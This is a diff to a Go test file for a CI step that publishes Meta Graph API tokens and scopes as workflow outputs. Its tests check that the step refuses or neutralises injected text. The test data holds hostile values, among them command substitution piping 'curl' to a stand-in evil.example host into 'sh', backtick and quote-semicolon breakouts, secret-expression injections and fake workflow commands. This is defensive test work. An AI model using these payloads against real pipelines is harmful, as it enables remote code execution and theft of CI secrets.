@@ -42,7 +42,8 @@ var legacyCommand = regexp.MustCompile(`##\[`)
 
 // TestLegacyWorkflowCommands: Graph's scopes and application name hold
 // "##[...]" commands; no stdout line carries one, on the plain and the
-// keyless path.
+// keyless path. Such scopes are no scope names: the step refuses them
+// (TestScopesOutputHoldsScopeNames), and its error carries none either.
 func TestLegacyWorkflowCommands(t *testing.T) {
 	t.Parallel()
 	const pwned = "##[set-output name=pwned;]x"
@@ -60,16 +61,16 @@ func TestLegacyWorkflowCommands(t *testing.T) {
 			}
 			answerDebugToken(k.world, debugBody(k.world, []string{"ads_read", "business_management", pwned, "##[error]boom"}, "##[warning]app", k.srv.Now().Add(60*24*time.Hour).Unix()))
 			r := runStep(t, k.world, env, nil, withSecretsManager(k.sm))
-			if r.err != nil {
-				t.Fatalf("run() = %v; want success\nstdout:\n%s", r.err, r.stdout)
+			if r.err == nil || !strings.Contains(r.err.Error(), "writing output "+outScopes) {
+				t.Fatalf("run() = %v; want the scopes refused\nstdout:\n%s", r.err, r.stdout)
 			}
 			for i, line := range strings.Split(r.stdout, "\n") {
 				if !strings.HasPrefix(line, "::") && legacyCommand.MatchString(line) {
 					t.Errorf("stdout line %d = %q: Graph text is a legacy workflow command", i+1, line)
 				}
 			}
-			if !strings.Contains(r.stdout, "set-output name=pwned;]x") {
-				t.Errorf("stdout = %q; want the scope shown, escaped", r.stdout)
+			if legacyCommand.MatchString(r.err.Error()) || len(r.outputs) != 0 || r.summary != "" {
+				t.Errorf("run() = %q, outputs %v, summary %q; want no Graph text in the error, no output, no summary", r.err, keys(r.outputs), r.summary)
 			}
 		})
 	}
@@ -81,13 +82,14 @@ var codeSpan = regexp.MustCompile("`[^`\n]*`")
 
 // TestSummaryMarkdown: the application name debug_token reports is a
 // Markdown link and image; the summary shows it as text only: outside code
-// spans no Graph text remains.
+// spans no Graph text remains. (A scope that is Markdown is no scope name,
+// and refused: TestScopesOutputHoldsScopeNames.)
 func TestSummaryMarkdown(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	installed(w)
 	const app = "[Re-authenticate](https://evil.example/login) ![x](https://evil.example/x.png) <img src=x> *b* https://evil.example"
-	answerDebugToken(w, debugBody(w, []string{"ads_read", "business_management", "[s](https://evil.example)"}, app, w.srv.Now().Add(60*24*time.Hour).Unix()))
+	answerDebugToken(w, debugBody(w, []string{"ads_read", "business_management"}, app, w.srv.Now().Add(60*24*time.Hour).Unix()))
 	r := runStep(t, w, w.inputs(), nil)
 	if r.err != nil {
 		t.Fatalf("run() = %v; want success", r.err)
@@ -303,5 +305,99 @@ func TestKeylessMintingTokenExpiring(t *testing.T) {
 	}
 	if strings.Contains(r.stdout, "the Lambda has not rotated it") || !strings.Contains(r.stdout, "minting_token_ref") {
 		t.Errorf("stdout = %q; want a warning naming minting_token_ref, not blaming the Lambda", r.stdout)
+	}
+}
+
+// TestScopesOutputHoldsScopeNames: a later step may put an output in a
+// script (run: echo "${{ steps.meta.outputs.scopes }}"), where the runner
+// substitutes it before the shell reads it. A scope debug_token grants
+// that is not a scope name (lowercase letters, digits and underscores) is
+// refused, as a request's scope is: no output is written and the token is
+// revoked. A well-formed scope missing from metamint's list is kept.
+func TestScopesOutputHoldsScopeNames(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name  string
+		scope string
+		ok    bool
+	}{
+		{name: "command substitution", scope: "ads_read$(curl${IFS}evil.example|sh)"},
+		{name: "backticks", scope: "`id`"},
+		{name: "quote and semicolon", scope: `x";id;"`},
+		{name: "expression", scope: "${{ secrets.META_APP_SECRET }}"},
+		{name: "upper case", scope: "ADS_READ"},
+		{name: "unlisted but a scope name", scope: "some_new_scope2", ok: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			w := newWorld(t)
+			installed(w)
+			answerDebugToken(w, debugBody(w, []string{"ads_read", "business_management", tt.scope}, "Canary App", w.srv.Now().Add(60*24*time.Hour).Unix()))
+			r := runStep(t, w, w.inputs(), nil)
+			if tt.ok {
+				if r.err != nil {
+					t.Fatalf("run() = %v; want success", r.err)
+				}
+				if got, want := r.outputs[outScopes], "ads_read,business_management,"+tt.scope; got != want {
+					t.Errorf("output scopes = %q; want %q", got, want)
+				}
+				return
+			}
+			if r.err == nil || !strings.Contains(r.err.Error(), "writing output scopes") {
+				t.Fatalf("run() = %v; want output scopes refused\noutputs: %q", r.err, r.outputs)
+			}
+			if strings.Contains(r.err.Error(), tt.scope) {
+				t.Errorf("run() = %q; want Graph's text not quoted", r.err)
+			}
+			discarded(t, w, r)
+			checkNoLeaks(t, w.secrets(), r)
+		})
+	}
+}
+
+// TestTokenOutputIsABearerToken: a later step may put the token output in
+// a script (curl -H "Authorization: Bearer ${{ steps.meta.outputs.token }}"),
+// where the runner substitutes it before the shell reads it. A new token
+// that does not have a Bearer token's syntax (RFC 6750 b64token: letters,
+// digits, "-._~+/", then "=") is refused: no output is written and the
+// token is revoked.
+func TestTokenOutputIsABearerToken(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name  string
+		token string
+		ok    bool
+	}{
+		{name: "command substitution", token: "EAA$(curl${IFS}evil.example)"},
+		{name: "backticks", token: "EAA`id`"},
+		{name: "quote and semicolon", token: `EAA";id;"`},
+		{name: "single quote", token: "EAA'x"},
+		{name: "expression", token: "EAA${{secrets.X}}"},
+		{name: "equals inside", token: "EAA=x"},
+		{name: "b64token", token: "EAAx-y.z_~+/==", ok: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			w := newWorld(t)
+			installed(w)
+			w.srv.MintNextAs(tt.token)
+			r := runStep(t, w, w.inputs(), nil)
+			if tt.ok {
+				if r.err != nil {
+					t.Fatalf("run() = %v; want success", r.err)
+				}
+				if got := r.outputs[outToken]; got != tt.token {
+					t.Errorf("output token = %q; want %q", got, tt.token)
+				}
+				return
+			}
+			if r.err == nil || !strings.Contains(r.err.Error(), "writing output token") {
+				t.Fatalf("run() = %v; want output token refused\noutputs: %q", r.err, r.outputs)
+			}
+			discarded(t, w, r)
+			checkNoLeaks(t, w.secrets(), r)
+		})
 	}
 }
